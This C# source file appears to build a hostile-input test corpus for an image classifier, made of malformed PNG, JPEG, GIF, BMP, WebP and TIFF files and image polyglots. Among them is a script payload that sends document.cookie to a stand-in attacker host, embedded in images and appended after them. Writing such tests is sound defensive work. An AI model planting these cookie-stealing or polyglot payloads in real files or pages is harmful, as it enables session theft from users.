using System.Text;

namespace ResNeSt.Testing.Hostile;

public static partial class HostileCorpus
{
    private static void AddMalformed(Builder corpus, IReadOnlyList<SourceImage> small)
    {
        var png = Small(small, "png").Content;
        void Png(string what, byte[] content, HostileExpectation? expected = null) =>
            corpus.Add(HostileClass.Malformed, "png-" + what, "png", content, expected ?? Reject(Corrupt));

        Png("ihdr-bad-crc", Patched(png, 29, b => b ^ 0xFF));
        Png("idat-before-ihdr", [.. Bytes.PngSignature, .. Chunk("IDAT", Bytes.Zlib(new byte[72])), .. Chunk("IHDR", Bytes.Ihdr(8, 8, 8, 0)), .. Chunk("IEND", [])]);
        Png("bit-depth-3", Bytes.Png(Bytes.Ihdr(8, 8, 3, 0), Bytes.Zlib(new byte[72])), Reject(Corrupt, Unsupported));
        Png("colour-type-5", Bytes.Png(Bytes.Ihdr(8, 8, 8, 5), Bytes.Zlib(new byte[72])), Reject(Corrupt, Unsupported));
        Png("palette-without-plte", Bytes.Png(Bytes.Ihdr(8, 8, 8, 3), Bytes.Zlib(new byte[72])), HostileExpectation.ClassifiedOrAnyRejection);
        Png("interlace-method-7", Bytes.Png(Bytes.Ihdr(8, 8, 8, 0, interlace: 7), Bytes.Zlib(new byte[72])), Reject(Corrupt, Unsupported));
        Png("idat-not-zlib", Bytes.Png(Bytes.Ihdr(8, 8, 8, 0), Encoding.ASCII.GetBytes("this is not a zlib stream at all")));
        Png("idat-empty", Bytes.Png(Bytes.Ihdr(8, 8, 8, 0), []), HostileExpectation.ClassifiedOrAnyRejection);
        Png("filter-type-9", Bytes.Png(Bytes.Ihdr(8, 8, 8, 0), Bytes.Zlib(Enumerable.Repeat((byte)9, 72).ToArray())), HostileExpectation.ClassifiedOrAnyRejection);
        Png("chunk-length-2gib", [.. png[..33], 0x7F, 0xFF, 0xFF, 0xF0, .. "tEXt"u8, .. "key\0value"u8]);
        Png("ihdr-length-1000", [.. png[..8], 0, 0, 0x03, 0xE8, .. png[12..]]);
        Png("no-iend", png[..IndexOf(png, "IEND"u8)][..^4]);

        var jpeg = Small(small, "jpeg420").Content;
        void Jpeg(string what, byte[] content, HostileExpectation? expected = null) =>
            corpus.Add(HostileClass.Malformed, "jpeg-" + what, "jpg", content, expected ?? Reject(Corrupt));

        Jpeg("no-sof", Without(jpeg, Bytes.JpegFrame(jpeg)));
        Jpeg("no-dht", WithoutAll(jpeg, 0xC4));
        Jpeg("no-dqt", WithoutAll(jpeg, 0xDB), HostileExpectation.ClassifiedOrAnyRejection); // ImageSharp assumes tables; libjpeg refuses
        Jpeg("sof-zero-components", PatchedAt(jpeg, Bytes.JpegFrame(jpeg) + 9, 0));
        Jpeg("sof-precision-12", PatchedAt(PatchedAt(jpeg, Bytes.JpegFrame(jpeg) + 1, 0xC1), Bytes.JpegFrame(jpeg) + 4, 12), HostileExpectation.ClassifiedOrAnyRejection);
        Jpeg("sof-precision-16", PatchedAt(jpeg, Bytes.JpegFrame(jpeg) + 4, 16), Reject(Corrupt, Unsupported));
        Jpeg("arithmetic-coding-sof9", PatchedAt(jpeg, Bytes.JpegFrame(jpeg) + 1, 0xC9), Reject(Corrupt, Unsupported));
        Jpeg("lossless-sof3", PatchedAt(jpeg, Bytes.JpegFrame(jpeg) + 1, 0xC3), Reject(Corrupt, Unsupported));
        Jpeg("hierarchical-sof5", PatchedAt(jpeg, Bytes.JpegFrame(jpeg) + 1, 0xC5), Reject(Corrupt, Unsupported));
        Jpeg("dht-counts-overflow", PatchedRange(jpeg, Bytes.JpegSegment(jpeg, 0xC4) + 5, Enumerable.Repeat((byte)0xFF, 16).ToArray()));
        Jpeg("dqt-table-id-15", PatchedAt(jpeg, Bytes.JpegSegment(jpeg, 0xDB) + 4, 0x0F));
        Jpeg("sos-unknown-component", PatchedAt(jpeg, Bytes.JpegSegment(jpeg, 0xDA) + 5, 9));
        Jpeg("segment-length-0", PatchedRange(jpeg, Bytes.JpegSegment(jpeg, 0xDB) + 2, [0, 0]));
        Jpeg("segment-length-past-end", PatchedRange(jpeg, Bytes.JpegSegment(jpeg, 0xDB) + 2, [0xFF, 0xFF]));
        Jpeg("scan-data-all-ff", ScanReplaced(jpeg, 0xFF), HostileExpectation.ClassifiedOrAnyRejection);
        Jpeg("scan-data-zero", ScanReplaced(jpeg, 0x00), HostileExpectation.ClassifiedOrAnyRejection);
        Jpeg("restart-interval-1-without-markers", Inserted(jpeg, Bytes.JpegSegment(jpeg, 0xDA), [0xFF, 0xDD, 0, 4, 0, 1]), HostileExpectation.ClassifiedOrAnyRejection);
        Jpeg("sof-after-sos", MovedFrameAfterScan(jpeg));

        var gif = Small(small, "gif").Content;
        void Gif(string what, byte[] content, HostileExpectation? expected = null) =>
            corpus.Add(HostileClass.Malformed, "gif-" + what, "gif", content, expected ?? Reject(Corrupt));

        Gif("header-and-trailer-only", [.. "GIF89a"u8, 16, 0, 16, 0, 0, 0, 0, 0x3B]);
        Gif("lzw-code-size-12", GifWithLzwByte(gif, 12), HostileExpectation.ClassifiedOrAnyRejection);
        Gif("lzw-code-size-0", GifWithLzwByte(gif, 0), HostileExpectation.ClassifiedOrAnyRejection);
        Gif("no-colour-table", [.. "GIF89a"u8, 4, 0, 4, 0, 0, 0, 0, 0x2C, 0, 0, 0, 0, 4, 0, 4, 0, 0, .. Bytes.GifLzwUniform(16), 0x3B], HostileExpectation.ClassifiedOrAnyRejection);
        Gif("unknown-block-0x99", [.. gif[..13], .. gif.AsSpan(13, 3 * (2 << (gif[10] & 7))).ToArray(), 0x99, 0x3B]);
        Gif("extension-without-terminator", [.. gif[..(13 + (3 * (2 << (gif[10] & 7))))], 0x21, 0xFE, 0xFF, .. Enumerable.Repeat((byte)'A', 255)]);

        var bmp = Small(small, "bmp").Content;
        void Bmp(string what, byte[] content, HostileExpectation? expected = null) =>
            corpus.Add(HostileClass.Malformed, "bmp-" + what, "bmp", content, expected ?? Reject(Corrupt, Unsupported));

        Bmp("bpp-0", PatchedRange(bmp, 28, [0, 0]));
        Bmp("bpp-7", PatchedRange(bmp, 28, [7, 0]));
        Bmp("bpp-64", PatchedRange(bmp, 28, [64, 0]));
        Bmp("compression-9", PatchedRange(bmp, 30, [9, 0, 0, 0]));
        Bmp("pixel-offset-past-end", PatchedRange(bmp, 10, [0xFF, 0xFF, 0xFF, 0x0F]), Reject(Corrupt));
        Bmp("palette-2g-colours", EightBitBmp(colorsUsed: int.MaxValue));
        Bmp("rle8-garbage", EightBitBmp(compression: 1, pixels: Enumerable.Range(0, 200).Select(i => (byte)(i * 37)).ToArray()), HostileExpectation.ClassifiedOrAnyRejection);
        Bmp("rle4-on-8-bit", EightBitBmp(compression: 2), HostileExpectation.ClassifiedOrAnyRejection);
        Bmp("bitfields-zero-masks", PatchedRange(PatchedRange(bmp, 28, [32, 0]), 30, [3, 0, 0, 0]), HostileExpectation.ClassifiedOrAnyRejection);

        var lossy = Small(small, "webp-lossy").Content;
        var lossless = Small(small, "webp-lossless").Content;
        void Webp(string what, byte[] content, HostileExpectation? expected = null) =>
            corpus.Add(HostileClass.Malformed, "webp-" + what, "webp", content, expected ?? Reject(Corrupt));

        Webp("riff-size-past-end", PatchedRange(lossy, 4, [0xF0, 0xFF, 0xFF, 0x7F]), HostileExpectation.ClassifiedOrAnyRejection);
        Webp("vp8-bad-start-code", PatchedAt(lossy, FindChunk(lossy, "VP8 ") + 11, 0x00));
        Webp("vp8l-bad-signature", PatchedAt(lossless, FindChunk(lossless, "VP8L") + 8, 0x2E));
        Webp("vp8l-version-7", PatchedAt(lossless, FindChunk(lossless, "VP8L") + 12, (byte)(lossless[FindChunk(lossless, "VP8L") + 12] | 0xE0)), Reject(Corrupt, Unsupported));
        Webp("vp8x-without-image", WebpExtended(0, 16, 16, []));
        Webp("unknown-chunk-vp8z", PatchedAt(lossless, FindChunk(lossless, "VP8L") + 3, (byte)'Z'), Reject(Corrupt, Unsupported));
        Webp("vp8-chunk-size-past-end", PatchedRange(lossy, FindChunk(lossy, "VP8 ") + 4, [0xF0, 0xFF, 0xFF, 0x7F]));
        Webp("vp8l-data-zeroed", PatchedRange(lossless, FindChunk(lossless, "VP8L") + 13, new byte[Math.Min(200, lossless.Length - FindChunk(lossless, "VP8L") - 13)]), HostileExpectation.ClassifiedOrAnyRejection);

        // TIFF is not an accepted format at all: any TIFF, well-formed or not, is refused unread.
        corpus.Add(HostileClass.Malformed, "tiff-ifd-offset-past-end", "tif", [0x49, 0x49, 0x2A, 0x00, 0xFF, 0xFF, 0xFF, 0x7F], Reject(Unsupported));
        corpus.Add(HostileClass.Malformed, "tiff-ifd-loop", "tif", [0x4D, 0x4D, 0x00, 0x2A, 0, 0, 0, 8, 0, 1, 0x01, 0x00, 0, 3, 0, 0, 0, 1, 0xFF, 0xFF, 0, 0, 0, 0, 0, 8], Reject(Unsupported));
        corpus.Add(HostileClass.Malformed, "bigtiff", "tiff", [0x49, 0x49, 0x2B, 0x00, 8, 0, 0, 0, 16, 0, 0, 0, 0, 0, 0, 0], Reject(Unsupported));

        static byte[] EightBitBmp(int? colorsUsed = null, int compression = 0, byte[]? pixels = null)
        {
            byte[] palette = [0, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0];
            return HostileCorpus.Bmp(16, 16, 8, compression, palette, pixels ?? new byte[16 * 16], colorsUsed: colorsUsed);
        }
    }

    private static void AddPolyglots(Builder corpus, IReadOnlyList<SourceImage> small)
    {
        var jpeg = Small(small, "jpeg420").Content;
        var png = Small(small, "png").Content;
        var gif = Small(small, "gif").Content;
        var bmp = Small(small, "bmp").Content;
        var webp = Small(small, "webp-lossy").Content;
        var html = Encoding.UTF8.GetBytes("<html><body><script>document.location='http://attacker.invalid/?c='+document.cookie</script></body></html>");
        var zip = Zip(("payload.js", Encoding.UTF8.GetBytes("alert(document.domain)")), ("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n"u8.ToArray()));
        void Add(string what, string ext, byte[] content, HostileExpectation expected) =>
            corpus.Add(HostileClass.Polyglot, what, ext, content, expected);

        // The image comes first and is complete: what follows is ignored and the image is classified.
        Add("jpeg-then-zip", "jpg", [.. jpeg, .. zip], HostileExpectation.Classified);
        Add("png-then-html", "png", [.. png, .. html], HostileExpectation.Classified);
        Add("png-then-elf", "png", [.. png, .. Elf()], HostileExpectation.Classified);
        Add("gif-then-jar", "gif", [.. gif, .. zip], HostileExpectation.Classified);
        Add("bmp-then-html", "bmp", [.. bmp, .. html], HostileExpectation.Classified);
        Add("webp-then-zip", "webp", [.. webp, .. zip], HostileExpectation.Classified);
        Add("png-script-in-text-chunk", "png", [.. png[..33], .. Chunk("tEXt", [.. "Comment\0"u8, .. html]), .. png[33..]], HostileExpectation.Classified);
        Add("jpeg-script-in-comment", "jpg", Inserted(jpeg, 2, [0xFF, 0xFE, (byte)((html.Length + 2) >> 8), (byte)(html.Length + 2), .. html]), HostileExpectation.Classified);
        Add("gif-script-in-comment-extension", "gif", [.. gif[..^1], 0x21, 0xFE, (byte)Math.Min(255, html.Length), .. html[..Math.Min(255, html.Length)], 0, 0x3B], HostileExpectation.Classified);
        Add("jpeg-with-html-after-eoi-inside-app", "jpg", Inserted(jpeg, 2, [0xFF, 0xE1, 0, 8, 0xFF, 0xD9, (byte)'<', (byte)'a', (byte)'>', (byte)' ']), HostileExpectation.ClassifiedOrAnyRejection);

        // Something else comes first: not an image, whatever it carries.
        Add("zip-then-jpeg", "jpg", [.. zip, .. jpeg], Reject(Unsupported));
        Add("html-then-png", "png", [.. html, .. png], Reject(Unsupported));
        Add("pdf-then-jpeg", "jpg", [.. "%PDF-1.4\n"u8, .. jpeg], Reject(Unsupported));
        Add("elf-then-png", "png", [.. Elf(), .. png], Reject(Unsupported));
        Add("gifar-header-javascript", "gif", [.. "GIF89a=1;alert(document.domain);/*"u8, .. "*/"u8], Reject(Budget, Corrupt)); // "=1;a" reads as 12605×24891
    }

    private static byte[] Chunk(string type, ReadOnlySpan<byte> data)
    {
        using var output = new MemoryStream();
        Bytes.PngChunk(output, type, data);
        return output.ToArray();
    }

    private static byte[] Patched(byte[] data, int offset, Func<int, int> change)
    {
        var copy = (byte[])data.Clone();
        copy[offset] = (byte)change(copy[offset]);
        return copy;
    }

    private static byte[] PatchedAt(byte[] data, int offset, byte value) => Patched(data, offset, _ => value);

    private static byte[] PatchedRange(byte[] data, int offset, ReadOnlySpan<byte> values)
    {
        var copy = (byte[])data.Clone();
        values.CopyTo(copy.AsSpan(offset));
        return copy;
    }

    private static byte[] Inserted(byte[] data, int offset, ReadOnlySpan<byte> values) => [.. data[..offset], .. values, .. data[offset..]];

    /// <summary>The JPEG without the marker segment at <paramref name="offset"/>.</summary>
    private static byte[] Without(byte[] jpeg, int offset)
    {
        int length = (jpeg[offset + 2] << 8) | jpeg[offset + 3];
        return [.. jpeg[..offset], .. jpeg[(offset + 2 + length)..]];
    }

    private static byte[] WithoutAll(byte[] jpeg, byte marker)
    {
        var result = jpeg;
        while (Bytes.JpegSegments(result).FirstOrDefault(s => s.Marker == marker) is { Length: > 0 } segment)
        {
            result = Without(result, segment.Offset);
        }

        return result;
    }

    /// <summary>The JPEG with its entropy-coded data replaced by <paramref name="fill"/> bytes (EOI kept).</summary>
    private static byte[] ScanReplaced(byte[] jpeg, byte fill)
    {
        var sos = Bytes.JpegSegment(jpeg, 0xDA);
        int dataStart = sos + 2 + ((jpeg[sos + 2] << 8) | jpeg[sos + 3]);
        var copy = (byte[])jpeg.Clone();
        copy.AsSpan(dataStart, copy.Length - 2 - dataStart).Fill(fill);
        return copy;
    }

    private static byte[] MovedFrameAfterScan(byte[] jpeg)
    {
        int sof = Bytes.JpegFrame(jpeg);
        int length = (jpeg[sof + 2] << 8) | jpeg[sof + 3];
        var frame = jpeg[sof..(sof + 2 + length)];
        var withoutFrame = Without(jpeg, sof);
        int sos = Bytes.JpegSegment(withoutFrame, 0xDA);
        int sosLength = (withoutFrame[sos + 2] << 8) | withoutFrame[sos + 3];
        return Inserted(withoutFrame, sos + 2 + sosLength, frame);
    }

    private static byte[] GifWithLzwByte(byte[] gif, byte value)
    {
        // The image descriptor (0x2C) is followed by 9 bytes, an optional local table, then the LZW minimum code size.
        int pos = 13 + ((gif[10] & 0x80) != 0 ? 3 * (2 << (gif[10] & 7)) : 0);
        while (gif[pos] == 0x21)
        {
            pos += 2;
            while (gif[pos] != 0)
            {
                pos += gif[pos] + 1;
            }

            pos++;
        }

        int descriptor = pos;
        int local = (gif[descriptor + 9] & 0x80) != 0 ? 3 * (2 << (gif[descriptor + 9] & 7)) : 0;
        return PatchedAt(gif, descriptor + 10 + local, value);
    }
}
